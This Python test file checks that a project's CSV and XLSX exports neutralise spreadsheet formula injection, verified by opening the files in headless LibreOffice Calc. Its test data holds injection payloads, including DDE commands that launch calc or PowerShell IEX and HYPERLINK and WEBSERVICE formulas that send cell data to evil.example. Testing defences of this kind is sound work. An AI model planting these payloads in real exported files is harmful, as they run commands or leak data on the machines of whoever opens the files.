import csv
import io
import random
import re
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from impact.publication.models import PublishedIncident, Snapshot
from impact.publication.published import PublishedArea, published_properties
from impact.publication.snapshots.canonical import canonical_line
from impact.publication.snapshots.freezing import Freezing
from impact.summaries.exporting import write_export_file
from impact.summaries.formats.defusing import defused, defused_array
from tests.builders import make_published
from tests.programs import needs

STARTS = [
    "=",
    "+",
    "-",
    "@",
    "|",
    "%",
    "\t",
    "\r",
    "\n",
    "＝",
    "＋",
    "－",
    "＠",
    "｜",
    "％",
    "﹢",
    "﹣",
    "﹦",
    "⁺",
    "₌",
]
UNSEEN = ["", " ", "\u00a0", "\ufeff", "\u200b", "\u3000", " \u200d"]
CASES = [f"{unseen}{start}cmd|'/c calc'!A1" for unseen in UNSEEN for start in STARTS]
PAYLOADS = [
    "1+1",
    "cmd|'/c calc'!A1",
    'HYPERLINK("http://evil.example?x="&A1;"Open, please")',
    'DDE("cmd";"/C calc";"x")',
    "SUM(1;2)*cmd|' /C powershell IEX'!A0",
    'WEBSERVICE(CONCATENATE("http://evil.example/",A2))',
    "A1,B1;C1\tD1",
    '"quoted", "twice"',
    "two\nlines",
    "two\r\nlines\r",
    "243812345678",
    "",
    "  two spaces  ",
    "=-+@",
]
BEFORE = ["", "'", '"', ",", ";", "\t", "\n", "\r", "word ", "è", "中", "1", "(", "“"]
OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
BOOLEANS = ("of:=FALSE()", "of:=TRUE()")  # how Calc writes a cell that is false or true


def generated(count: int) -> list[str]:
    """As many different texts: most begin as a formula does, seen or unseen, and some only contain one."""
    chance = random.Random(4180)
    texts = dict.fromkeys(CASES)
    while len(texts) < count:
        unseen = "".join(chance.choices(UNSEEN, k=chance.randrange(4)))
        before = chance.choice(BEFORE) if chance.random() < 0.3 else ""
        texts[before + unseen + chance.choice(STARTS) + chance.choice(PAYLOADS) + chance.choice(PAYLOADS)] = (
            None
        )
    return list(texts)


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+1", "-1", "@SUM(A1)", "|cmd", "%0A=1", "\t=1", "\r=1", "＝1+1", " =1", "\ufeff=1", "\u200b+1"],
)
def test_it_defuses_every_start_of_a_formula(text: str) -> None:
    assert defused(text) == f"'{text}"


@pytest.mark.parametrize("value", ["two men - shot", "a=b", "", -1.5, 3, None])
def test_it_leaves_what_is_no_formula_alone(value: object) -> None:
    assert defused(value) == value


@given(st.lists(st.text(max_size=6) | st.sampled_from(CASES), max_size=40))
def test_a_column_is_defused_as_its_cells_are(texts: list[str]) -> None:
    assert defused_array(pa.array(texts, pa.string())).to_pylist() == [defused(text) for text in texts]


@pytest.fixture(scope="module")
def profile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One office's settings for all: the first start makes them."""
    return tmp_path_factory.mktemp("office")


@pytest.mark.django_db
@pytest.mark.parametrize("name", ["csv", "xlsx"])
def test_five_thousand_texts_are_no_formula_and_stay_what_they_are(
    name: str, tmp_path: Path, profile: Path
) -> None:
    needs("soffice", "libreoffice-calc-nogui")
    texts = generated(5000)
    file = tmp_path / f"a.{name}"
    write_export_file(snapshot_of(texts), name, file)
    head, *rows = sheet_of(open_in_office(file, profile))
    assert {formula for row in rows for _text, formula in row} <= {None, *BOOLEANS}
    said = [dict(zip((text for text, _ in head), (text for text, _ in row), strict=False)) for row in rows]
    assert len(said) == 5000
    for text, row in zip(texts, said, strict=True):
        assert row["text"] == as_read(defused(text)), repr(text)
        assert row["nearest_area"] == as_read(defused(text)), repr(text)
        assert row["minerals"] == as_read(defused(f"{text}; gold")), repr(text)


def test_the_office_does_find_a_formula_where_there_is_one(tmp_path: Path, profile: Path) -> None:
    needs("soffice", "libreoffice-calc-nogui")
    file = tmp_path / "a.csv"
    text = io.StringIO()
    csv.writer(text).writerows([["x"], ["=1+1"]])
    file.write_text(text.getvalue())
    assert sheet_of(open_in_office(file, profile)) == [[("x", None)], [("2", "of:=1+1")]]


def snapshot_of(texts: list[str]) -> Snapshot:
    """A snapshot whose incidents say these texts in every column that holds words of people."""
    make_published()
    record = published_properties(PublishedIncident.objects.get())
    frozen = Freezing()
    for number, text in enumerate(texts):
        area: PublishedArea = {"id": 1, "name": text, "kind": "artisanal", "distance_km": 3}
        one: Any = {"id": f"{number:032x}", "text": text, "minerals": [text, "gold"], "areas": [area]}
        frozen.add(canonical_line({**record, **one}, "salt"))
    return frozen.kept(Snapshot(without_place=0, withheld=0))


def as_read(text: str) -> str:
    """Without what Calc changes: line ends of all kinds become one, tabs of cells of several lines go."""
    return re.sub(r"[\r\n]+", "\n", text).replace("\t", "")


def sheet_of(office: ElementTree.Element) -> list[list[tuple[str, str | None]]]:
    """The first sheet's rows of texts and formulas, without what is empty at their ends."""
    table = next(office.iter(f"{OFFICE}table"))
    rows = []
    for row in table.iter(f"{OFFICE}table-row"):
        cells: list[tuple[str, str | None]] = []
        for cell in row.iter(f"{OFFICE}table-cell"):
            lines = ["".join(words_of(line)) for line in cell.iter(f"{TEXT}p")]
            repeated = min(int(cell.get(f"{OFFICE}number-columns-repeated", "1")), 100)
            cells += [(as_read("\n".join(lines)), cell.get(f"{OFFICE}formula"))] * repeated
        while cells and cells[-1] == ("", None):
            cells.pop()
        if cells:
            rows.append(cells)
    return rows


def words_of(element: ElementTree.Element) -> Iterator[str]:
    """The text of a paragraph of flat XML, with the spaces and tabs that are elements there."""
    if element.tag == f"{TEXT}s":
        yield " " * int(element.get(f"{TEXT}c", "1"))
    elif element.tag == f"{TEXT}tab":
        yield "\t"
    yield element.text or ""
    for inner in element:
        yield from words_of(inner)
        yield inner.tail or ""


def open_in_office(file: Path, profile: Path) -> ElementTree.Element:
    """The file as LibreOffice Calc has it, in flat XML. A CSV is read with formulas on, as a person might."""
    infilter = (
        ["--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1"] if file.suffix == ".csv" else []
    )
    subprocess.run(
        [
            shutil.which("soffice") or "soffice",
            f"-env:UserInstallation=file://{profile}",
            "--headless",
            *infilter,
            "--convert-to",
            "fods",
            "--outdir",
            str(file.parent),
            str(file),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    written = next(iter(file.parent.glob("a*.fods")))
    return ElementTree.parse(written).getroot()
